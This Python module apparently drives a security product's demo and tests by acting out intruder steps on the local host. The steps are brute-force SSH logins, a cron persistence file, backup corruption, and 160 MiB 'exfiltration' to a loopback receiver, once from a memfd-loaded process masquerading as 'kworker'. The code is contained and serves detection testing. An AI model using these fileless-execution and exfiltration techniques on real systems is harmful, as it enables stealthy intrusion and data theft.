"""An intruder's steps, performed for real on this host (`make demo`, and the end-to-end tests
that check what the mesh makes of them). Each is contained: logins against the demo's own sshd
and user, traffic to a receiver on loopback, a cron file that schedules nothing and is removed,
a bit flipped in the demo's own backup.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Final

from demo.harness import HOST, DemoError, channel_to
from demo.sshd import Sshd, login
from mesh.channel import open_channel
from qsc.beta.v1 import beta_service_pb2 as bpb
from qsc.beta.v1 import beta_service_pb2_grpc as bpb_grpc
from qsc.common.v1 import integrity_details_pb2

NEW_SOURCE: Final = "127.0.0.2"  # another loopback address: on `lo` (127.0.0.0/8) without setup
MiB: Final = 1 << 20
TRANSFER: Final = 160 * MiB  # over the default 100 MiB of alpha.large_outbound_transfer


def failed_login_burst(s: Sshd) -> None:
    """10 failures from 127.0.0.1: 6 wrong passwords for the real user, 4 made-up users (the
    5th distinct user and the 10th failure are both alpha.credential_stuffing)."""
    attempts = [(s.user, "wrong-" + secrets.token_hex(4)) for _ in range(6)]
    attempts += [(f"nosuch{i}", "guess") for i in range(4)]
    with ThreadPoolExecutor(max_workers=10) as pool:
        codes = list(pool.map(lambda a: login(s, *a), attempts))
    if any(code == 0 for code in codes):
        raise DemoError(f"a wrong password logged in: {codes}")


def login_from_new_source(s: Sshd) -> None:
    """The right password, from an address this host has not seen the user log in from."""
    if login(s, s.user, s.password, source=NEW_SOURCE) != 0:
        raise DemoError(f"the login of {s.user} from {NEW_SOURCE} failed")


def corrupt_backup(workdir: Path, beta_port: int, backup_root: Path, backup_set: str) -> None:
    """A bit flipped in the backup, then found by an operator's on-demand VerifyBackup."""
    target = backup_root / "sub" / "wal.dump"
    data = bytearray(target.read_bytes())
    data[4321] ^= 0x01
    target.write_bytes(bytes(data))

    async def body() -> bpb.VerifyBackupResponse:
        async with open_channel(channel_to(workdir, beta_port, "operator")) as channel:
            request = bpb.VerifyBackupRequest(
                backup_set=backup_set, depth=integrity_details_pb2.VERIFY_DEPTH_FULL
            )
            response: bpb.VerifyBackupResponse = await bpb_grpc.BetaServiceStub(
                channel
            ).VerifyBackup(request)
            return response

    result = asyncio.run(body()).result
    if result.passed or [f.path for f in result.failures] != ["sub/wal.dump"]:
        raise DemoError(f"the corrupted backup was not found as such: {result}")


@contextlib.contextmanager
def cron_persistence() -> Iterator[Path]:
    """A file in /etc/cron.d, as an intruder schedules a comeback; it holds only a comment, so
    cron runs nothing, and it is removed when the block ends."""
    path = Path(f"/etc/cron.d/qsc-demo-{uuid.uuid4().hex[:8]}")
    if not path.parent.is_dir():
        raise DemoError("no /etc/cron.d on this host")
    try:
        subprocess.run(["sh", "-c", f"echo '# qsc demo: schedules nothing' > {path}"], check=True)
        yield path
    finally:
        path.unlink(missing_ok=True)


# Run from a memfd: a copy of the interpreter written into anonymous memory and exec'd from
# there, as a dropped payload runs without touching the disk. It sends `size` bytes out and
# holds the connection until told to stop (the socket poller sees its counters).
SEND: Final = """
import socket, sys
c = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
chunk = bytes(1 << 20)
for _ in range(int(sys.argv[2]) >> 20):
    c.sendall(chunk)
print("sent", flush=True)
sys.stdin.read()
"""
_FROM_MEMORY: Final = """
import os, sys
fd = os.memfd_create("kworker")
with open(sys.argv[1], "rb") as exe:
    os.write(fd, exe.read())
os.execv(f"/proc/self/fd/{fd}", ["kworker", "-I", "-c", sys.argv[2], *sys.argv[3:]])
"""


@contextlib.contextmanager
def _sent(command: list[str], size: int) -> Iterator[int]:
    """`command` + [port, size] sends `size` bytes to a receiver on loopback and holds the
    connection until the block ends; then it is killed. Yields its pid."""
    received = 0
    with socket.create_server((HOST, 0)) as server:

        def receive() -> None:
            nonlocal received
            conn, _ = server.accept()
            with conn:
                while chunk := conn.recv(MiB):
                    received += len(chunk)

        thread = threading.Thread(target=receive, daemon=True)
        thread.start()
        port = server.getsockname()[1]
        child = subprocess.Popen(
            [*command, str(port), str(size)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            if child.stdout is None or child.stdout.readline().strip() != "sent":
                raise DemoError(f"{command[0]} did not send its data")
            yield child.pid
        finally:
            child.kill()
            child.wait(timeout=10)
            thread.join(10)
    if received != size:
        raise DemoError(f"the receiver got {received} of {size} bytes")


def fileless_exfiltration(size: int = TRANSFER) -> contextlib.AbstractContextManager[int]:
    """A payload run from memory (its exe is /memfd:kworker) sends `size` bytes out."""
    exe = os.path.realpath(sys.executable)
    return _sent([exe, "-I", "-c", _FROM_MEMORY, exe, SEND], size)


def exfil_tool(tools: Path, size: int = TRANSFER) -> contextlib.AbstractContextManager[int]:
    """The same transfer by a copy of the interpreter outside the system directories (a system
    program is one of alpha.large_outbound_transfer's exceptions, an intruder's tool is not)."""
    tools.mkdir(exist_ok=True)
    exe = tools / "exfil"
    shutil.copy(os.path.realpath(sys.executable), exe)
    return _sent([str(exe), "-I", "-c", SEND], size)
